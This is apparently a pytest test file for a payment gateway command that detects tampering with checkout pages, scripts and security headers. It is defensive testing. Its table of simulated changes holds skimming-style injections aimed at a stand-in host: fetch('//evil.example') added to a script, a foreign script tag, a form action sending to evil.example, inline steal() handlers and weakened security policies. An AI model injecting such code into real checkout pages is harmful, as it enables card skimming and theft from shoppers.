"""`flask check-pages`: whatever of the checkout is not as it was approved is named, and fails the command."""

from __future__ import annotations

import hashlib
import json
import os
import re
import ssl
import subprocess
import sys
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import trustme
from click.testing import CliRunner, Result
from flask import Flask
from werkzeug.serving import make_server
from werkzeug.test import run_wsgi_app

from commands.check_pages import HSTS, INVENTORY, Check, Inventory, Part, Reader, approve_pages, check_pages
from config import ROOT
from models.base import db
from models.merchants import TEST_MERCHANT_ID, Merchant
from tests.conftest import PRODUCTION, Api, Quiet, another_database, temporary_folder
from tests.processes import gateway
from tests.receiver import served

Headers = list[tuple[str, str]]
Change = Callable[[str, Headers, bytes], tuple[Headers, bytes]]
PARTS = Inventory.read().parts
EVIL = "https://evil.example/x.js"


class Between:
    """Somebody between the gateway and the browser, who changes what passes."""

    def __init__(self, app: Flask):
        self.app = app
        self.change: Change = lambda _path, headers, body: (headers, body)

    def __call__(self, environ: dict[str, Any], start_response: Callable[..., Any]) -> Iterable[bytes]:
        chunks, status, sent = run_wsgi_app(self.app, environ, buffered=True)
        headers, body = self.change(environ["PATH_INFO"], list(sent), b"".join(chunks))
        length = ("Content-Length", str(len(body)))
        start_response(status, [pair for pair in headers if pair[0] != "Content-Length"] + [length])
        return [body]


@pytest.fixture
def between(app: Flask) -> Iterator[Between]:
    """On the way to a gateway in production."""
    before = app.config["GATEWAY"]
    app.config["GATEWAY"] = replace(before, app_env="production")
    yield Between(app)
    app.config["GATEWAY"] = before


@contextmanager
def serving(between: Between, tls: ssl.SSLContext | None = None) -> Iterator[str]:
    server = make_server("127.0.0.1", 0, between, threaded=True, request_handler=Quiet, ssl_context=tls)
    with served(server):
        yield f"http{'s' if tls else ''}://127.0.0.1:{server.server_port}"


@pytest.fixture
def url(between: Between) -> Iterator[str]:
    with serving(between) as url:
        yield url


def run(*arguments: str) -> Result:
    return CliRunner().invoke(check_pages, arguments, catch_exceptions=False)


def lines(result: Result, word: str) -> list[str]:
    return [line for line in result.output.splitlines() if line.startswith(word)]


# --- the inventory -------------------------------------------------------------------------------


@pytest.mark.parametrize("part", PARTS, ids=str)
def test_what_was_approved_is_what_there_is(part: Part) -> None:
    """After a change to one of these files: read it, then `flask approve-pages --by YOU`."""
    digest = hashlib.sha256((ROOT / part.file).read_bytes()).hexdigest()
    assert digest == part.sha256, f"{part.file} was changed since {part.approved_by} approved it"
    assert len(part.purpose) > 20
    assert len(part.needed) > 20


def test_every_script_and_style_sheet_of_a_page_is_in_it() -> None:
    listed = {part.file for part in PARTS}
    for folder in ("static/checkout", "static/sim"):
        for file in (ROOT / folder).iterdir():
            assert f"{folder}/{file.name}" in listed, file


def test_a_page_loads_nothing_else_and_neither_does_a_script() -> None:
    paths = {part.path for part in PARTS}
    for part in PARTS:
        text = (ROOT / part.file).read_text()
        if part.kind == "page":
            assert Reader(text, paths).differences == []
        folder = part.path.rpartition("/")[0]
        for name in re.findall(r"""(?:from|import\()\s*["`](?:\./|/static/checkout/)([\w.${}]+)["`]""", text):
            languages = [name.replace("${spoken}", each) for each in ("en", "hi")]
            for each in languages:
                assert {f"{folder}/{each}", f"/static/checkout/{each}"} & paths, (part.path, each)
        assert "@import" not in text
        assert not re.search(r"url\(\s*['\"]?(?!data:)", text), part.path


def test_approving_writes_who_and_when_for_what_changed(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    copy = tmp_path / "inventory.json"
    facts = json.loads(INVENTORY.read_text())
    before = json.loads(json.dumps(facts))
    facts["parts"][3]["sha256"] = "0" * 64
    copy.write_text(json.dumps(facts))
    monkeypatch.setattr(sys.modules["commands.check_pages"], "INVENTORY", copy)
    result = CliRunner().invoke(approve_pages, ["--by", "Asha"], catch_exceptions=False)
    assert result.output == f"approved  script {before['parts'][3]['path']}\n"
    after = json.loads(copy.read_text())
    assert after["parts"][3].pop("approved_by") == "Asha"
    assert re.fullmatch(r"20\d\d-\d\d-\d\d", after["parts"][3].pop("approved_on"))
    for name in ("approved_by", "approved_on"):
        before["parts"][3].pop(name)
    assert after == before


# --- as approved ---------------------------------------------------------------------------------


def test_a_gateway_in_production_is_as_approved(api: Api, url: str) -> None:
    result = run("--url", url, "--order", api.order()["id"])
    assert (lines(result, "changed"), result.exit_code) == ([], 0), result.output
    assert len(lines(result, "approved")) == len(PARTS) + 2
    for part in PARTS:
        assert f"approved  {part}" in result.output
    assert result.output.endswith("\nnothing changed\n")


def test_what_the_merchant_chose_is_no_change_but_told(app: Flask, api: Api, url: str) -> None:
    def choose(**facts: object) -> None:
        with app.app_context():
            for name, value in facts.items():
                setattr(db.session.get_one(Merchant, TEST_MERCHANT_ID), name, value)
            db.session.commit()

    logo, shops = "https://cdn.example/logo.png", ["https://shop.example", "https://www.shop.example"]
    choose(logo_url=logo, frame_origins=shops)
    try:
        result = run("--url", url, "--order", api.order()["id"])
    finally:
        choose(logo_url=None, frame_origins=[])
    assert result.exit_code == 0, result.output
    assert f"(framed by {' '.join(shops)}, logo {logo})" in result.output


def test_what_a_proxy_may_add_is_no_change(between: Between, url: str) -> None:
    added = [("Via", "1.1 proxy"), ("CF-Ray", "8f"), ("Alt-Svc", 'h3=":443"'), (HSTS, "max-age=63072000")]
    between.change = lambda _path, headers, body: (headers + added, body)
    assert run("--url", url).exit_code == 0


# --- changed -------------------------------------------------------------------------------------


def in_body(path: str, old: bytes, new: bytes) -> Change:
    def change(asked: str, headers: Headers, body: bytes) -> tuple[Headers, bytes]:
        assert asked != path or old in body
        return headers, body.replace(old, new) if asked == path else body

    return change


def in_headers(path: str, name: str, *values: str) -> Change:
    def change(asked: str, headers: Headers, body: bytes) -> tuple[Headers, bytes]:
        if asked != path:
            return headers, body
        return [pair for pair in headers if pair[0] != name] + [(name, value) for value in values], body

    return change


def in_policy(old: str, new: str) -> Change:
    def change(asked: str, headers: Headers, body: bytes) -> tuple[Headers, bytes]:
        if asked != "/checkout":
            return headers, body
        return [(name, value.replace(old, new)) for name, value in headers], body

    return change


CARD, FORMS, CSP = "/static/checkout/card.js", "/static/checkout/forms.js", "Content-Security-Policy"
CHANGES: dict[str, tuple[Change, str]] = {
    "a tampered script": (
        in_body(CARD, b"export", b"fetch('//evil.example');export"),
        f"script {CARD} is not what",
    ),
    "a tampered style sheet": (
        in_body("/static/checkout/checkout.css", b":root", b"html"),
        "checkout.css is not what",
    ),
    "a tampered SDK": (in_body("/checkout.js", b"strict", b"sloppy"), "script /checkout.js is not what"),
    "an added script": (
        in_body("/checkout", b"</head>", f'<script src="{EVIL}"></script></head>'.encode()),
        f"page /checkout has <script src='{EVIL}'>, which nobody approved",
    ),
    "an added script of ours": (
        in_body("/checkout", b"</head>", b'<script src="/static/dashboard/main.js"></script></head>'),
        "page /checkout has <script src='/static/dashboard/main.js'>, which nobody approved",
    ),
    "an added inline script": (
        in_body("/checkout", b"</body>", b"<script>steal()</script></body>"),
        "page /checkout has an inline script: 'steal()'",
    ),
    "an added handler": (
        in_body("/checkout", b"<body>", b'<body onload="steal()">'),
        "page /checkout has an inline script: onload of <body>, 'steal()'",
    ),
    "an added frame": (
        in_body("/checkout", b"<main>", b'<main><iframe srcdoc="x"></iframe>'),
        "page /checkout has a <iframe>, which nobody approved",
    ),
    "an added base": (
        in_body("/checkout", b"<head>", b'<head><base href="//evil.example/">'),
        "has a <base>",
    ),
    "a form that is sent elsewhere": (
        in_body("/checkout", b"<form", b'<form action="https://evil.example/"'),
        "has <form action='https://evil.example/'>, which nobody approved",
    ),
    "other words": (in_body("/checkout", b"Checkout", b"Check-out"), "page /checkout is not what"),
    "no policy": (in_headers("/checkout", CSP), f"page /checkout header {CSP} is missing"),
    "no policy of a script": (in_headers(CARD, CSP), f"script {CARD} header {CSP} is missing"),
    "a weaker policy": (
        in_policy("script-src 'self'", f"script-src 'self' {EVIL}"),
        f"{CSP} has \"script-src 'self' {EVIL}\", which nobody approved",
    ),
    "a policy with a gap": (
        in_policy("form-action 'none'; ", ""),
        f"page /checkout header {CSP} has no form-action",
    ),
    "a policy with more": (
        in_policy("base-uri", "font-src *; base-uri"),
        f"{CSP} has 'font-src *', which nobody approved",
    ),
    "a policy that says a thing twice": (
        in_policy("default-src", "script-src *; default-src"),
        "says something twice",
    ),
    "who may frame it": (
        in_policy("frame-ancestors 'none'", "frame-ancestors *"),
        "'frame-ancestors *', which nobody",
    ),
    "two policies": (
        in_headers("/checkout", CSP, "default-src *", "default-src *"),
        "was sent more than once",
    ),
    "another header": (
        in_headers("/checkout", "Referrer-Policy", "unsafe-url"),
        "page /checkout header Referrer-Policy is 'unsafe-url', not 'no-referrer'",
    ),
    "an added header": (
        in_headers("/checkout", "Link", f"<{EVIL}>; rel=preload"),
        f"page /checkout header Link was added: '<{EVIL}>; rel=preload'",
    ),
    "an added cookie": (
        in_headers(FORMS, "Set-Cookie", "a=b"),
        f"{FORMS} header Set-Cookie was added: 'a=b'",
    ),
    "another type": (
        in_headers("/checkout", "Content-Type", "text/html; charset=utf-7"),
        "page /checkout header Content-Type is 'text/html; charset=utf-7'",
    ),
    "a control character": (in_headers("/checkout", "X-New", "a\x1b[2J"), r"X-New was added: 'a\x1b[2J'"),
}


@pytest.mark.parametrize("what", CHANGES)
def test_a_change_on_the_way_is_named(between: Between, url: str, what: str) -> None:
    between.change, said = CHANGES[what]
    result = run("--url", url)
    assert result.exit_code == 1
    assert [line for line in lines(result, "changed") if said in line], result.output
    assert "\x1b" not in result.output
    assert re.search(r"\n[1-9]\d* changed\n\Z", result.output)


def test_of_an_orders_page_nobody_but_the_merchant_decides(api: Api, between: Between, url: str) -> None:
    for old, new in (
        ("frame-ancestors 'none'", "frame-ancestors http://shop.example"),
        ("data:;", "data: https://a.example https://b.example;"),
        ("script-src 'self'", "script-src https://shop.example"),
    ):
        between.change = in_policy(old, new)
        result = run("--url", url, "--order", api.order()["id"])
        assert [line for line in lines(result, "changed") if "order_id=" in line], result.output


def test_a_page_that_leads_elsewhere_or_is_not_there(between: Between, url: str) -> None:
    between.app = Flask("elsewhere", static_folder=None)
    between.app.add_url_rule("/checkout", view_func=lambda: ("", 302, {"Location": "https://evil.example/"}))
    result = run("--url", url)
    assert result.exit_code == 1
    assert f"changed   script {CARD} answers 404\n" in result.output
    assert "page /checkout answers 302 and leads to 'https://evil.example/'\n" in result.output


def test_without_a_simulated_bank_its_phone_need_not_be_there(
    between: Between, url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def gone(**_address: str) -> tuple[str, int]:
        return "", 404

    for endpoint in ("simulator.get_phone", "pages.get_checkout_file"):
        monkeypatch.setitem(between.app.view_functions, endpoint, gone)
    result = run("--url", url)
    assert "approved  page /sim/upi/pay_0000000000000000 (not there: no simulated bank)" in result.output
    assert {line.partition(" /")[2] for line in lines(result, "changed")} == {
        f"{part.path[1:]} answers 404" for part in PARTS if part.path.startswith("/static/checkout/")
    }


def test_nobody_answers() -> None:
    result = run("--url", "http://127.0.0.1:1")
    assert result.exit_code == 1
    assert "changed   page /checkout cannot be fetched: ConnectionError" in result.output


def test_an_address_without_tls_is_a_change() -> None:
    result = run("--url", "http://checkout.invalid")
    assert "changed   address http://checkout.invalid is not https" in result.output


def test_over_tls_the_browser_must_be_told_to_stay_with_it(
    between: Between, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    authority = trustme.CA()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert("127.0.0.1").configure_cert(context)
    trusted = tmp_path / "ca.pem"
    authority.cert_pem.write_to_path(str(trusted))
    with serving(between, context) as url:
        assert "page /checkout cannot be fetched: SSLError" in run("--url", url).output
        monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(trusted))
        result = run("--url", url)
        assert {line.partition(" header ")[2] for line in lines(result, "changed")} == {
            "Strict-Transport-Security is missing, or for less than 15552000 s"
        }
        between.change = lambda _path, headers, body: ([*headers, (HSTS, "max-age=31536000")], body)
        assert run("--url", url).exit_code == 0


def test_a_local_gateway_lets_any_site_frame_it_and_says_so(app: Flask, api: Api) -> None:
    with serving(Between(app)) as url:
        findings = list(Check(url, api.order()["id"], local=True).run())
        assert [finding for finding in findings if finding.differences] == []
        assert "framed by any site" in [finding.remark for finding in findings]
        result = run("--url", url)  # which cannot know that it is a local one
    assert lines(result, "changed") == [f"changed   page /checkout header {CSP} has no frame-ancestors"]


# --- a real server -------------------------------------------------------------------------------


@pytest.mark.slow
def test_the_command_against_a_gateway_in_production_that_runs(environ: dict[str, str]) -> None:
    """From an environment that knows nothing of it but its address."""
    with (
        temporary_folder() as folder,
        another_database(environ, "check_pages") as settings,
        gateway(folder / "data", **settings | PRODUCTION) as running,
    ):
        url = f"http://127.0.0.1:{running.environ['CHECKOUT_PORT']}"
        done = subprocess.run(
            [sys.executable, "-m", "flask", "check-pages", "--url", url],
            cwd=ROOT,
            env={"PATH": os.environ["PATH"]},
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 0, done.stdout + done.stderr
        assert len(done.stdout.splitlines()) == len(PARTS) + 2
